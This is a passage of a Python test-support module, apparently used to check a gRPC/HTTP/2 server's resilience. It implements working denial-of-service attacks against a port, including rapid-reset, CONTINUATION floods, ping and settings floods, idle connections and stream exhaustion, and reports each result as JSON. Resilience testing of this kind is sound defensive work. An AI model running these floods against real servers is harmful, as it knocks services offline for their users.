            seconds=args.seconds,
            timeout=args.timeout,
            per_connection=args.per_connection,
        )
        return {
            "resets_sent": reset.resets_sent,
            "connections": reset.connections,
            "goaways": dict(reset.goaways),
            "closed_by_server": reset.closed_by_server,
            "seconds": round(reset.seconds, 2),
        }
    if args.attack in ("ping-flood", "settings-flood"):
        unit = ping_frame() if args.attack == "ping-flood" else settings_frame({SETTINGS_HEADER_TABLE_SIZE: 4096})
        flood = await asyncio.to_thread(silent_flood, args.port, unit, count=args.count, seconds=args.seconds)
        goaway = flood.goaway
        return {
            "frames_sent": flood.frames_sent,
            "send_blocked": flood.send_blocked,
            "closed_by_server": flood.closed_by_server,
            "goaway": goaway.error if goaway else None,
            "seconds": round(flood.seconds, 2),
        }
    if args.attack in ("idle-tcp", "idle-tls"):
        # idle-tcp: nothing at all (on a TLS port: no ClientHello); idle-tls: the handshake, then no preface.
        context = None
        if args.attack == "idle-tls":
            context = ssl.create_default_context(cafile=args.tls_ca)
        idle = await idle_connections(args.port, args.count, hold_seconds=args.seconds, tls=context)
        return idle.summary()
    if args.attack in ("streams", "headers-only"):
        return await _streams(args)
    if args.attack == "call-flood":
        async with raw_peer(args.port) as peer:
            calls = await call_flood(peer, args.count, seconds=args.seconds)
        return {
            "sent": calls.sent,
            "answered": calls.answered,
            "refused": calls.refused,
            "goaway": calls.goaway,
            "closed_by_server": calls.closed_by_server,
            "seconds": round(calls.seconds, 2),
        }
    if args.attack == "deadlines":
        return await _deadlines(args)
    if args.attack == "continuation-flood":
        return await _continuation_flood(args)
    raise SystemExit(f"unknown attack {args.attack!r}")


async def _streams(args: argparse.Namespace) -> dict[str, Any]:
    """``--connections`` connections, ``--count`` StreamIsActive (or HEADERS-only) streams each, held ``--seconds``."""
    body = None if args.attack == "headers-only" else ref_body()
    peers = [await RawPeer.open(args.port) for _ in range(args.connections)]
    opened = time.monotonic()
    try:
        for peer in peers:
            for first in range(0, args.count, 500):
                await peer.send(open_streams(1 + 2 * first, min(500, args.count - first), body=body))
        deadline = opened + args.seconds
        while time.monotonic() < deadline and not all(p.closed for p in peers):
            await asyncio.sleep(0.1)
            print(json.dumps({"progress": _stream_counts(peers, args.count)}), flush=True)
        return {**_stream_counts(peers, args.count), "held_seconds": round(time.monotonic() - opened, 2)}
    finally:
        for peer in peers:
            await peer.close()


def _stream_counts(peers: Sequence[RawPeer], count: int) -> dict[str, Any]:
    answered = refused = ended = 0
    for peer in peers:
        answered_ids = {f.stream_id for f in peer.frames if f.kind == DATA and f.payload}
        answered += len(answered_ids)
        refused += sum(1 for f in peer.frames if f.kind == RST_STREAM and f.error_code == ErrorCodes.REFUSED_STREAM)
        ended += sum(1 for f in peer.frames if f.kind == HEADERS and f.flags & END_STREAM)
    return {
        "streams": count * len(peers),
        "with_a_message": answered,
        "refused": refused,
        "ended_by_server": ended,
        "connections_closed": sum(1 for p in peers if p.closed),
        "goaways": [p.goaway.error for p in peers if p.goaway],
    }


def continuation_flood(frames: int = 63, size: int = 16_000) -> bytes:
    """HEADERS without END_HEADERS and ``frames`` CONTINUATIONs of ``size`` bytes of header block, never ended.

    h2 takes up to 64 CONTINUATIONs before it calls the block a flood; at HTTP/2's default 16 KiB frames that
    is a megabyte held per connection, undecoded, before any header-size limit applies.
    """
    field = hpack.NeverIndexedHeaderTuple("x-pad", "p" * (size - 10))
    fragment = bytes(hpack.Encoder().encode([field], huffman=False))
    return frame(HEADERS, 1, header_block(IS_ACTIVE)) + frame(CONTINUATION, 1, fragment) * frames


async def _continuation_flood(args: argparse.Namespace) -> dict[str, Any]:
    """``--connections`` connections, each a ``continuation_flood``, held ``--seconds`` or until closed."""
    flood = continuation_flood()
    peers = []
    try:
        for _ in range(args.connections):
            peer = await RawPeer.open(args.port)
            peers.append(peer)
            await peer.send(flood)
        deadline = time.monotonic() + args.seconds
        while time.monotonic() < deadline and not all(p.closed for p in peers):
            await asyncio.sleep(0.1)
        return {
            "connections": len(peers),
            "bytes_each": len(flood),
            "closed_by_server": sum(1 for p in peers if p.closed),
            "goaways": dict(Counter(p.goaway.error for p in peers if p.goaway)),
        }
    finally:
        for peer in peers:
            await peer.close()


async def _deadlines(args: argparse.Namespace) -> dict[str, Any]:
    """``--count`` GetMetrics with a ``--deadline`` (seconds) each, ``--concurrency`` at a time, on one channel."""
    with tempfile.TemporaryDirectory(prefix="grpcio-stubs-") as folder:
        proto = generate(Path(folder))
    channel = grpc.aio.insecure_channel(f"127.0.0.1:{args.port}")
    stub = proto.stub(channel)
    request = proto.metrics_request(GOOD_QUERY, METRIC_NAME)
    codes: Counter[str] = Counter()
    started = time.monotonic()
    sent = 0

    async def caller() -> None:
        nonlocal sent
        while sent < args.count and time.monotonic() - started < args.seconds:
            sent += 1
            try:
                await stub.GetMetrics(request, timeout=args.deadline)
                codes["OK"] += 1
            except grpc.aio.AioRpcError as error:
                codes[error.code().name] += 1

    try:
        await asyncio.gather(*(caller() for _ in range(args.concurrency)))
    finally:
        await channel.close()
    return {"calls": sent, "codes": dict(codes), "seconds": round(time.monotonic() - started, 2)}


def main(argv: list[str] | None = None) -> int:
    """Run one attack against ``--port`` and print what it saw as one JSON line."""
    parser = argparse.ArgumentParser(prog="python -m e2e.support.attacks", description=__doc__.splitlines()[0])
    parser.add_argument(
        "attack",
        choices=[
            "rapid-reset",
            "grpcio-cancels",
            "idle-tcp",
            "idle-tls",
            "streams",
            "headers-only",
            "ping-flood",
            "settings-flood",
            "deadlines",
            "continuation-flood",
            "call-flood",
        ],
    )
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=1000, help="resets, cancels, connections, streams, frames, calls")
    parser.add_argument("--seconds", type=float, default=60.0, help="the most the attack runs (or holds)")
    parser.add_argument("--rate", type=float, default=20.0, help="grpcio-cancels: cancels a second")
    parser.add_argument(
        "--connections", type=int, default=1, help="streams, headers-only, continuation-flood: connections"
    )
    parser.add_argument("--reconnect", action="store_true", help="rapid-reset: a new connection after each close")
    parser.add_argument("--timeout", help="rapid-reset: each call's grpc-timeout (e.g. 100m)")
    parser.add_argument("--per-connection", type=int, help="rapid-reset: a new connection after this many resets")
    parser.add_argument("--deadline", type=float, default=0.001, help="deadlines: seconds per call")
    parser.add_argument("--concurrency", type=int, default=20, help="deadlines: calls in flight")
    parser.add_argument("--tls-ca", help="idle-tls: the CA that signed the server's certificate")
    args = parser.parse_args(argv)
    result = asyncio.run(_run(args))
    print(json.dumps({"attack": args.attack, **result}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
